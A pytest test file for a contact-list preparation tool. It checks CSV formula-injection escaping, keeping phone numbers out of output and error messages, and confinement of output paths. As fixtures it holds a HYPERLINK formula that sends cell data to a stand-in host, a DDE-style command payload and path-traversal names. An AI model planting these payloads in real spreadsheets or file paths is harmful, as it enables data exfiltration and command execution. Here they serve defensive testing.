"""Issue #7: security and privacy. Nothing leaks, nothing escapes.

- CSV formula injection: rejects.csv neutralises every cell that a spreadsheet would run
  (OWASP: a leading ``= + - @``, tab or CR gets a ``'``); ``--escape-formulas`` does the same
  in list files, except the ``number`` column (E.164 must stay ``+91...`` for Exotel).
- Phone numbers never reach stdout/stderr, error messages, manifest.json or report.html;
  ``--redact-rejects`` masks them in rejects.csv.
- Output paths cannot leave OUTDIR.
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from click.testing import CliRunner

import listprep
from listprep import OutputError
from listprep.cli import main
from listprep.writer import write_outputs

# Known contacts: every one a valid Indian mobile (E.164 = +91 + these ten digits).
KNOWN = [
    "9876543210",
    "9812345678",
    "9822345678",
    "9833345678",
    "9845012345",
    "9900112233",
    "9123456789",
    "7012345678",
    "6398765432",
    "9988776655",
    "9811122233",
    "9414123456",
]
DANGEROUS = tuple("=+-@\t\r")
WriteCsv = Callable[..., Path]


def read_csv(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def leaks(text: str) -> list[str]:
    """Known numbers found in ``text``, as written or with separators between their digits."""
    found = {n for n in KNOWN if n in text}
    for line in text.splitlines():
        digits = re.sub(r"\D", "", line)
        found |= {n for n in KNOWN if n in digits}
    return sorted(found)


# --- formula injection --------------------------------------------------------------------------

HOSTILE_LINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
HOSTILE_CMD = "+cmd|' /C calc'!A0"


def hostile_rows() -> list[list[str]]:
    """Header and rows; the comments say where each row must end (worked out by hand)."""
    return [
        ["name", "last_name", "company", "phone"],
        [HOSTILE_LINK, "@SUM(1)", HOSTILE_CMD, "9876543210"],  # row 2: kept
        ["-2+3", "\t=1", "\r=2", "9812345678"],  # row 3: kept
        ["Asha", "K", "Acme", HOSTILE_LINK],  # row 4: letters -> rejected
        ["Bala", "K", "Acme", "@SUM(1)"],  # row 5: rejected
        ["Chen", "K", "Acme", HOSTILE_CMD],  # row 6: rejected
        ["Devi", "K", "Acme", "-1+1"],  # row 7: rejected (too short)
        ["Esha", "K", "Acme", "+91 98765 43210"],  # row 8: duplicate of row 2
    ]


@pytest.fixture
def hostile(write_csv: WriteCsv) -> Path:
    return write_csv(hostile_rows(), name="hostile.csv")


def test_rejects_csv_neutralises_formulas(hostile: Path) -> None:
    result = listprep.prepare(str(hostile))
    rows = read_csv(result.files["rejects.csv"])
    assert [r["source_row"] for r in rows] == ["4", "5", "6", "7", "8"]
    assert [r["raw_value"] for r in rows] == [
        "'" + HOSTILE_LINK,
        "'@SUM(1)",
        "'" + HOSTILE_CMD,
        "'-1+1",
        "'+91 98765 43210",
    ]
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(DANGEROUS), (column, cell)
    # the frame keeps the raw values: only the file is made safe
    assert result.rejects["raw_value"].to_list()[0] == HOSTILE_LINK


@pytest.mark.parametrize("cell", ["\t=1+1", "\r=1+1", "=1+1", "@A1", "-A1", "+A1"])
def test_rejects_csv_neutralises_each_dangerous_first_character(
    write_csv: WriteCsv, cell: str
) -> None:
    path = write_csv([["name", "phone"], ["Asha", cell]])
    result = listprep.prepare(str(path))
    (row,) = read_csv(result.files["rejects.csv"])
    assert row["raw_value"] == "'" + cell


def test_rejects_csv_neutralises_a_formula_file_name(
    write_csv: WriteCsv, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = write_csv([["name", "phone"], ["Asha", "9876543210"], ["Bala", "9876543210"]])
    monkeypatch.chdir(path.parent)
    renamed = path.rename(path.parent / "=cmd.csv")
    result = listprep.prepare(renamed.name)
    (row,) = read_csv(result.files["rejects.csv"])
    assert row["source_file"] == "'=cmd.csv"
    assert row["detail"] == "duplicate of =cmd.csv:2"


def test_list_files_keep_cells_as_given_without_the_option(hostile: Path) -> None:
    result = listprep.prepare(str(hostile))
    rows = read_csv(result.files["lists/campaign-01/list-01.csv"])
    assert [(r["number"], r["first_name"], r["last_name"], r["company_name"]) for r in rows] == [
        ("+919876543210", HOSTILE_LINK, "@SUM(1)", HOSTILE_CMD),
        ("+919812345678", "-2+3", "\t=1", "\r=2"),
    ]


def test_escape_formulas_neutralises_list_files_but_not_numbers(
    runner: CliRunner, hostile: Path, tmp_path: Path
) -> None:
    out = tmp_path / "out"
    result = runner.invoke(main, ["prepare", str(hostile), "-o", str(out), "--escape-formulas"])
    assert result.exit_code == 0, result.output
    rows = read_csv((out / "lists/campaign-01/list-01.csv").read_bytes())
    assert [(r["number"], r["first_name"], r["last_name"], r["company_name"]) for r in rows] == [
        ("+919876543210", "'" + HOSTILE_LINK, "'@SUM(1)", "'" + HOSTILE_CMD),
        ("+919812345678", "'-2+3", "'\t=1", "'\r=2"),
    ]


def test_escape_formulas_is_refused_for_dynamic_lists(write_csv: WriteCsv) -> None:
    """A dynamic list holds the number and the variables: escaping their cells changed the
    messages (and the SMS length was counted on the unescaped text)."""
    path = write_csv([["first_name", "phone"], ["-500", "9876543210"], ["Asha", "9812345678"]])
    with pytest.raises(listprep.ConfigError, match="would change the messages"):
        listprep.prepare(str(path), template="Hi @@first_name", escape_formulas=True)
    result = listprep.prepare(str(path), template="Hi @@first_name")
    rows = read_csv(result.files["lists/campaign-01/list-01.csv"])
    assert [r["first_name"] for r in rows] == ["-500", "Asha"], "the cells as given"


# --- phone numbers never leak ---------------------------------------------------------------


@pytest.fixture
def contacts(tmp_path: Path) -> dict[str, Path]:
    """Inputs whose every number is known: kept, duplicated, DND, suppressed, broken."""
    rows = [["first_name", "phone", "city"]]
    for index, number in enumerate(KNOWN[:8]):
        rows.append([f"Name{index}", number, "Pune"])
    rows.append(["Dup", "+91 " + KNOWN[0][:5] + " " + KNOWN[0][5:], "Pune"])  # duplicate
    rows.append(["Masked", KNOWN[8][:5] + "XXXXX", "Pune"])  # masked
    rows.append(["Short", KNOWN[9][:7], "Pune"])  # invalid: 7 digits (not a known number)
    rows.append(["Bad", "0" + KNOWN[9] + "0", "Pune"])  # invalid: an extra digit
    rows.append(["Ragged", KNOWN[10]])  # malformed row
    crm = tmp_path / "crm.csv"
    with crm.open("w", newline="") as fh:
        csv.writer(fh, lineterminator="\n").writerows(rows)
    dnd = tmp_path / "dnd.csv"
    dnd.write_text(f'number,preferences\n{KNOWN[1]},0\n{KNOWN[2]},"1,2"\n{KNOWN[11]},0\n')
    suppress = tmp_path / "suppress.txt"
    suppress.write_text(f"{KNOWN[3]}\n+91 {KNOWN[11]}\n")
    headerless = tmp_path / "headerless.csv"
    headerless.write_text(f"{KNOWN[0]},Asha\n{KNOWN[1]},Bala\n")
    stray = tmp_path / "stray.csv"
    stray.write_text(f'name,phone\nAsha,"{KNOWN[0][:5]}"{KNOWN[0][5:]}\nBala,{KNOWN[1]}\n')
    quoted = tmp_path / "quoted.csv"
    quoted.write_text(f'name,phone\n"Rao, Anil",{KNOWN[0]}\nBala,{KNOWN[1]}\n')
    return {
        "crm": crm,
        "dnd": dnd,
        "suppress": suppress,
        "headerless": headerless,
        "stray": stray,
        "quoted": quoted,
    }


SUCCESS_RUNS = {
    "plain": [],
    "json": ["--json"],
    "verbose": ["-v"],
    "redacted": ["--redact-rejects", "--json"],
    "sms": ["--channel", "sms", "--template", "Hi @@first_name from @@city", "-v"],
    "inline": ["--method", "inline", "--json"],
}


@pytest.mark.parametrize("run", list(SUCCESS_RUNS))
def test_no_number_in_output_manifest_or_report(
    runner: CliRunner, contacts: dict[str, Path], tmp_path: Path, run: str
) -> None:
    out = tmp_path / "out"
    args = ["prepare", str(contacts["crm"]), "-o", str(out)]
    args += ["--dnd", str(contacts["dnd"]), "--suppress", str(contacts["suppress"])]
    result = runner.invoke(main, args + SUCCESS_RUNS[run])
    assert result.exit_code == 0, result.output
    manifest = (out / "manifest.json").read_text()
    counts = json.loads(manifest)["counts"]
    assert counts["output_rows"] == 5  # see test_the_contacts_fixture_...
    assert leaks(result.output) == []
    assert leaks(result.stderr) == []
    assert leaks(manifest) == []
    assert leaks((out / "report.html").read_text()) == []
    # the check can fail: the numbers are in the files that must hold them
    assert (leaks((out / "rejects.csv").read_text()) == []) == (run == "redacted")


def test_the_contacts_fixture_is_what_the_privacy_runs_assume(contacts: dict[str, Path]) -> None:
    """Worked out by hand: rows 2-9 hold KNOWN[0..7]; KNOWN[1] (row 3) is fully blocked in the
    register, KNOWN[2] (row 4) partially registered (no --category: rejected), KNOWN[3] (row 5)
    suppressed; row 10 repeats KNOWN[0]; rows 11-13 are no numbers; row 14 is ragged. So five
    contacts are kept: KNOWN[0], [4], [5], [6], [7]."""
    result = listprep.prepare(
        str(contacts["crm"]), dnd=[str(contacts["dnd"])], suppress=[str(contacts["suppress"])]
    )
    kept = result.lists["_e164"].to_list()
    assert kept == ["+91" + n for n in (KNOWN[0], KNOWN[4], KNOWN[5], KNOWN[6], KNOWN[7])]
    reasons = dict(result.rejects.select("source_row", "reason").iter_rows())
    assert reasons == {
        3: "dnd-full",
        4: "dnd",
        5: "suppressed",
        10: "duplicate",
        11: "masked",
        12: "invalid",
        13: "invalid",
        14: "malformed-row",
    }


@pytest.mark.parametrize(
    "spelling", [lambda n: n, lambda n: f"+91 {n[:5]} {n[5:]}", lambda n: f"0{n[:5]}-{n[5:]}"]
)
def test_no_number_in_a_template_sample_of_report(
    runner: CliRunner,
    write_csv: WriteCsv,
    tmp_path: Path,
    spelling: Callable[[str], str],
) -> None:
    """A template may quote the phone column itself; report.html shows sample messages."""
    rows = [["first_name", "phone"]] + [[f"N{i}", spelling(n)] for i, n in enumerate(KNOWN[:4])]
    path = write_csv(rows)
    out = tmp_path / "out"
    template = "Your number @@phone is registered, @@first_name"
    result = runner.invoke(main, ["prepare", str(path), "-o", str(out), "--template", template])
    assert result.exit_code == 0, result.output
    assert leaks(result.output) == []
    assert leaks((out / "manifest.json").read_text()) == []
    assert leaks((out / "report.html").read_text()) == []


def error_runs(contacts: dict[str, Path], tmp_path: Path) -> dict[str, list[str]]:
    crm, dnd = str(contacts["crm"]), str(contacts["dnd"])
    full = tmp_path / "full"
    full.mkdir(exist_ok=True)
    (full / "x.txt").write_text("x")
    return {
        "outdir not empty": ["prepare", crm, "-o", str(full)],
        "unknown variable": ["prepare", crm, "-o", str(tmp_path / "o"), "--template", "@@nme"],
        "unknown phone column": ["prepare", crm, "-o", str(tmp_path / "o"), "--phone-column", "x"],
        "headerless file": ["prepare", str(contacts["headerless"]), "-o", str(tmp_path / "o")],
        "headerless --json": [
            "prepare",
            str(contacts["headerless"]),
            "-o",
            str(tmp_path / "o"),
            "--json",
        ],
        "headerless template": [
            "prepare",
            str(contacts["headerless"]),
            "-o",
            str(tmp_path / "o"),
            "--phone-column",
            KNOWN[0],
            "--template",
            "Hi @@name",
        ],
        "wrong delimiter": [
            "prepare",
            str(contacts["quoted"]),
            "-o",
            str(tmp_path / "o"),
            "--delimiter",
            ";",
        ],
        "register as input": ["prepare", dnd, "-o", str(tmp_path / "o"), "--phone-column", "x"],
        "inspect headerless": ["inspect", str(contacts["headerless"])],
        "inspect headerless --json": ["inspect", str(contacts["headerless"]), "--json"],
    }


ERROR_CASES = [
    "outdir not empty",
    "unknown variable",
    "unknown phone column",
    "headerless file",
    "headerless --json",
    "headerless template",
    "wrong delimiter",
    "register as input",
    "inspect headerless",
    "inspect headerless --json",
]


@pytest.mark.parametrize("case", ERROR_CASES)
def test_no_number_in_error_messages(
    runner: CliRunner, contacts: dict[str, Path], tmp_path: Path, case: str
) -> None:
    args = error_runs(contacts, tmp_path)[case]
    result = runner.invoke(main, args)
    assert result.exit_code == 1, result.output  # refused, with a message
    assert isinstance(result.exception, SystemExit), repr(result.exception)
    assert "Traceback" not in result.output
    assert leaks(result.output) == [], result.output


def test_no_number_when_a_row_is_malformed(
    runner: CliRunner, contacts: dict[str, Path], tmp_path: Path
) -> None:
    """A stray quote makes a malformed row, reported by count; its raw text (the number with
    it) goes to rejects.csv only."""
    out = tmp_path / "o"
    result = runner.invoke(main, ["prepare", str(contacts["stray"]), "-o", str(out), "-v"])
    assert result.exit_code == 0, result.output
    assert "malformed-row" in result.output
    assert leaks(result.output) == [], result.output
    assert leaks((out / "manifest.json").read_text()) == []
    assert leaks((out / "rejects.csv").read_text()) != []  # the check can fail


@pytest.mark.parametrize(
    "options", [{}, {"phone_column": KNOWN[0], "template": "Hi @@name"}], ids=["plain", "template"]
)
def test_no_number_in_library_error_messages(
    contacts: dict[str, Path], options: dict[str, Any]
) -> None:
    """A headerless file: its first row, numbers and all, was taken for the header."""
    with pytest.raises(listprep.ListprepError) as info:
        listprep.prepare(str(contacts["headerless"]), **options)
    assert leaks(str(info.value)) == [], str(info.value)
    assert leaks(repr(info.value)) == [], repr(info.value)


def _series_of_numbers() -> list[Callable[[], object]]:
    frame = pl.DataFrame({"phone": KNOWN})
    made: list[Callable[[], object]] = [lambda: frame["phone"], lambda: list(KNOWN)]
    made.append(lambda: frame.lazy().select(pl.col("phone").str.replace("8", " 8").cast(int)))
    made.append(lambda: pytest.importorskip("pandas").Series(KNOWN))
    return made


@pytest.mark.parametrize(
    "make", _series_of_numbers(), ids=["polars-series", "list", "lazy", "pandas-series"]
)
def test_no_number_when_a_source_is_not_a_table(make: Callable[[], Any]) -> None:
    """A Series or a list of numbers was taken for a list of paths ('98…: no such file'); a
    LazyFrame's own error quoted its cells."""
    with pytest.raises(listprep.InputError) as info:
        listprep.prepare(make())
    for text in (str(info.value), repr(info.value), *map(str, info.value.args)):
        assert leaks(text) == [], text


def test_error_location_masks_a_header_that_is_a_number(tmp_path: Path) -> None:
    error = listprep.InputError("bad", file=KNOWN[0], column=KNOWN[1])
    assert leaks(str(error)) == [], str(error)
    real = tmp_path / f"export_{KNOWN[0]}.csv"
    real.write_text("phone\n")
    assert str(real) in str(listprep.InputError("bad", file=str(real))), "a real path is shown"


def test_redact_rejects_masks_raw_values(contacts: dict[str, Path]) -> None:
    result = listprep.prepare(
        str(contacts["crm"]),
        dnd=[str(contacts["dnd"])],
        suppress=[str(contacts["suppress"])],
        redact_rejects=True,
    )
    rows = {int(r["source_row"]): r["raw_value"] for r in read_csv(result.files["rejects.csv"])}
    k = KNOWN
    assert rows[3] == k[1][:2] + "XXXXXX" + k[1][-2:]  # 98XXXXXX78
    assert rows[3] == "98XXXXXX78"
    assert rows[5] == "98XXXXXX78"  # KNOWN[3] = 9833345678
    # "+91 98765 43210": the digits 919876543210, first two and last two kept
    assert rows[10] == "91XXXXXXXX10"
    assert rows[11] == "63X87"  # "63987XXXXX" holds the digits 63987
    assert rows[14] == "98XXXXXX33"  # the raw line "Ragged,9811122233"
    assert leaks(result.files["rejects.csv"].decode()) == []
    # without the option the raw values are there (so the check above can fail)
    plain = listprep.prepare(
        str(contacts["crm"]), dnd=[str(contacts["dnd"])], suppress=[str(contacts["suppress"])]
    )
    assert leaks(plain.files["rejects.csv"].decode()) != []


def test_redact_rejects_cli_writes_masked_values(
    runner: CliRunner,
    write_csv: WriteCsv,
    tmp_path: Path,
) -> None:
    path = write_csv([["name", "phone"], ["A", "9876543210"], ["B", "9876543210"]])
    out = tmp_path / "out"
    result = runner.invoke(main, ["prepare", str(path), "-o", str(out), "--redact-rejects"])
    assert result.exit_code == 0, result.output
    (row,) = read_csv((out / "rejects.csv").read_bytes())
    assert (row["source_row"], row["reason"], row["raw_value"]) == ("3", "duplicate", "98XXXXXX10")


# --- output paths stay inside OUTDIR ----------------------------------------------------------


def everything(folder: Path) -> set[str]:
    return {p.relative_to(folder).as_posix() for p in folder.rglob("*")}


@pytest.mark.parametrize("evil", ["../x", "lists/../../x", "../../x", "/ABS"])
def test_write_outputs_refuses_paths_outside(tmp_path: Path, evil: str) -> None:
    root = tmp_path / "root"
    root.mkdir()
    if evil == "/ABS":
        evil = str(tmp_path / "abs.txt")
    with pytest.raises(OutputError):
        write_outputs(root / "out", {"ok.txt": b"fine", evil: b"evil"}, force=False)
    assert everything(tmp_path) == {"root"}  # no out/, no x, no staging folder, no abs.txt


def test_write_outputs_writes_safe_paths(tmp_path: Path) -> None:
    """The refusal above is not of everything: nested relative paths are written."""
    write_outputs(tmp_path / "out", {"a/b/c.txt": b"1", "d.txt": b"2"}, force=False)
    assert (tmp_path / "out/a/b/c.txt").read_bytes() == b"1"
    assert everything(tmp_path) == {"out", "out/a", "out/a/b", "out/a/b/c.txt", "out/d.txt"}


def test_name_prefix_cannot_escape_outdir(write_csv: WriteCsv, tmp_path: Path) -> None:
    path = write_csv([["name", "phone"], ["A", "9876543210"]], name="in/contacts.csv")
    work = tmp_path / "work"
    work.mkdir()
    result = listprep.prepare(str(path), name_prefix="../../evil")
    assert all(".." not in name and not name.startswith("/") for name in result.files)
    result.write(work / "out")
    assert everything(tmp_path) - {"in", "in/contacts.csv", "work", "work/out"} == {
        f"work/out/{name}" for name in result.files
    } | {"work/out/lists", "work/out/lists/campaign-01", "work/out/requests"}
    body = json.loads((work / "out/requests/campaign-01.json").read_text())
    assert body["name"] == "../../evil-campaign-01"
    assert not any("evil" in p for p in everything(tmp_path))


def test_name_prefix_cli(runner: CliRunner, write_csv: WriteCsv, tmp_path: Path) -> None:
    path = write_csv([["name", "phone"], ["A", "9876543210"]], name="in/contacts.csv")
    out = tmp_path / "deep/er/out"
    result = runner.invoke(
        main, ["prepare", str(path), "-o", str(out), "--name-prefix", "../../../evil"]
    )
    assert result.exit_code == 0, result.output
    assert not any("evil" in p for p in everything(tmp_path))
    body = json.loads((out / "requests/campaign-01.json").read_text())
    assert body["name"] == "../../../evil-campaign-01"


def test_redact_rejects_masks_numbers_quoted_in_details(tmp_path: Path) -> None:
    """A column rule's detail quotes the cell it refused: redacted too, not only raw_value."""
    rules = tmp_path / "rules.toml"
    rules.write_text('[alt]\nregex = "[A-Za-z ]+"\n')
    frame = pl.DataFrame({"phone": [KNOWN[0]], "alt": [f"+91 {KNOWN[4][:5]} {KNOWN[4][5:]}"]})
    options: dict[str, Any] = {"template": "Call @@alt", "rules": str(rules)}
    plain = listprep.prepare(frame, **options)
    (detail,) = plain.rejects["detail"].to_list()
    assert leaks(detail) != []  # the detail does quote the number
    redacted = listprep.prepare(frame, redact_rejects=True, **options)
    assert leaks(redacted.files["rejects.csv"].decode()) == []
    assert read_csv(redacted.files["rejects.csv"])[0]["reason"] == "column-check"


def test_a_header_cut_short_in_a_message_never_shows_part_of_a_number() -> None:
    """Headers are cut to 40 characters in messages: masked first, so a number at the cut is
    not left half readable."""
    header = "Address: 12 MG Road, Bengaluru, ph " + KNOWN[0] + " x"
    with pytest.raises(listprep.InputError) as info:
        listprep.prepare(pl.DataFrame({header: ["a"], "name": ["b"]}))
    assert KNOWN[0][:5] not in str(info.value)
